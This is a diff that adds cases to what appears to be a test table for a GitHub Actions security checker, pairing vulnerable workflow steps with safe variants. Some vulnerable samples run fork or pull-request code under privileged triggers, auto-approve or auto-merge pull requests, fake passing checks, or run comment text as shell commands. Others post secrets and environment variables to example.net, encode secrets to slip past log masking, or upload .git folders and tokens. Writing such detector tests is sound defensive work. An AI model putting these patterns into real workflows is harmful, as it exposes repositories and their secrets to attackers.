@@ -64,6 +64,13 @@ ARTIFACT = (
     + SHA
     + "\n        with: {name: e, path: e.txt}\n"
 )
+STEP = "      - run: @\n"
+OPENED = "      - run: |\n          @\n        if: github.event.action == 'opened'\n"
+DOWNLOAD = f"      - uses: actions/download-artifact\0{SHA}\n        with:\n          path: built\n          run-id: ${{{{ github.event.workflow_run.id }}}}\n"
+FORK = "      - env:\n          FROM: ${{ github.event.pull_request.head.repo.full_name }}\n          AT: ${{ github.event.pull_request.head.sha }}\n        run: @\n"
+REPORT = f"      - uses: actions/github-script@{SHA}\n        with:\n          script: |\n            @\n"
+KEPT = f"      - uses: actions/checkout\0{SHA}\n        with:\n          @\n      - uses: actions/upload-artifact\0{SHA}\n        with:\n          name: all\n          include-hidden-files: true\n          path: |\n            ./\n"
+WHOLE = f"      - uses: actions/checkout\0{SHA}\n      - uses: actions/upload-artifact\0{SHA}\n        with:\n          include-hidden-files: true\n          path: @\n"
 RUN = "      - env:\n          TOKEN: ${{ secrets.TOKEN }}\n        run: @\n"
 
 
@@ -147,6 +154,27 @@ CASES = [
     Case("all variables in an artifact", SECRET, ARTIFACT, "env > e.txt", "env > f.txt", "push"),
     Case("a secret in an artifact", SECRET, ARTIFACT, 'echo "$K" | base64 > out/e.txt', 'echo "$HOME" | base64 > out/e.txt', "push"),
     Case("a secret that is posted", SECRET, RUN, 'curl -d "$TOKEN" https://example.net/c', 'curl -H "Authorization: Bearer $TOKEN" https://example.net/c', "push", 0.5),
+    Case("a patch of a pull request that git takes", TRIGGER, STEP, 'curl -sSL "$URL/pull/$N.patch" | git -c user.name=a am && make', 'curl -sSL "$URL/pull/$N.patch" | git apply --stat'),
+    Case("a difference that is stored and applied", TRIGGER, STEP, "|\n          gh pr diff \"$N\" > d.txt\n          patch -p1 < d.txt", "|\n          gh pr diff \"$N\" --name-only > d.txt\n          grep -c py d.txt"),
+    Case("a package of a fork for npm", TRIGGER, FORK, 'npm install "github:$FROM#$AT" && npx shop', 'npm install "shop@next" && echo "$AT"'),
+    Case("a program of a fork for Cargo", TRIGGER, FORK, "|\n          cargo install \\\n            --git \"https://github.com/$FROM\" --rev \"$AT\"", "|\n          cargo install --git https://github.com/example/shop --rev 8ade135a\n          echo \"$AT\""),
+    Case("a fork that is unpacked", TRIGGER, FORK, 'npx degit "$FROM#$AT" next && make -C next', 'npx degit example/shop next && make -C next'),
+    Case("an approval by a request", TRIGGER, REPORT, 'await github.rest.pulls.createReview({ ...context.repo, pull_number, event: "APPROVE" })', 'await github.rest.pulls.createReview({ ...context.repo, pull_number, event: "COMMENT" })'),
+    Case("an approval for everybody", TRIGGER, OPENED, 'gh pr review "$URL" -a', 'gh pr review "$URL" -c -b "Thanks"'),
+    Case("a merge by the interface", TRIGGER, STEP, 'gh api -X PUT "repos/$R/pulls/$N/merge"', 'gh api "repos/$R/pulls/$N/files"'),
+    Case("a merge for everybody or for a bot", TRIGGER, "      - run: gh pr merge -s \"$URL\"\n        if: @\n", "github.actor != 'dependabot[bot]'", "github.actor == 'dependabot[bot]'"),
+    Case("a status that is always good", TRIGGER, STEP, 'gh api "repos/$R/statuses/$AT" -f state=success -f context=build', 'gh api "repos/$R/statuses/$AT" -f state=pending -f context=build', at_least=0.7),
+    Case("a check that is always good", TRIGGER, REPORT, "await github.rest.checks.create({ ...context.repo, name: 'build', head_sha, conclusion: 'success' })", "await github.rest.checks.create({ ...context.repo, name: 'build', head_sha, conclusion: ok ? 'success' : 'failure' })", at_least=0.7),
+    Case("a script of an artifact", TRIGGER, DOWNLOAD + STEP, "bash built/report.sh", "node scripts/report.js built/report.json", "\n  workflow_run: {workflows: [CI]}"),
+    Case("a package of an artifact", TRIGGER, DOWNLOAD + STEP, "cd built && npm ci", "cd built && ls", "\n  workflow_run: {workflows: [CI]}"),
+    Case("an artifact without a checkout", TRIGGER, f"      - uses: actions/download-artifact\0{SHA}\n" + STEP, "python3 tools/report.py", "python3 -c 'import json'", "\n  workflow_run: {workflows: [CI]}", 0.7),
+    Case("a comment in parts for a program", INJECTED, SCRIPT, "|\n            const { body: text, user } = context.payload.comment\n            const [first, ...rest] = context.payload.comment.body.split(' ')\n            await exec.exec('sh', ['-c', rest.join(' ')])", "|\n            const [first, ...rest] = context.payload.comment.body.split(' ')\n            await exec.exec('make', ['test'])"),
+    Case("lines of a body one by one", INJECTED, PYTHON, "for row in os.environ['BODY'].splitlines(): os.system(row)", "for row in os.environ['BODY'].splitlines(): print(row)"),
+    Case("a secret backwards from JavaScript", SECRET, RUN, "node -e 'console.log([...process.env.TOKEN].reverse().join(\"\"))'", "node -e 'console.log(process.env.TOKEN.length)'", "push"),
+    Case("a secret in a document for Ruby", SECRET, RUN, "|\n          ruby <<'END'\n          key = ENV['TOKEN']\n          puts key.tr('a-z', 'b-za')\n          END", "|\n          ruby <<'END'\n          key = ENV['TOKEN']\n          puts key.empty? ? 'none' : 'set'\n          END", "push"),
+    Case("a folder of git in an artifact", SECRET, WHOLE, "${{ github.workspace }}/.git", "${{ github.workspace }}/.github", "push"),
+    Case("a token that the checkout keeps", SECRET, KEPT, "persist-credentials: true", "persist-credentials: false", "push"),
+    Case("hidden files in an artifact", SECRET, WHOLE, "'**'", "dist", "push"),
     Case("all variables that are posted", SECRET, RUN, "env | curl -d @- https://example.net/c", "env | sort", "push"),
 ]  # fmt: skip
 
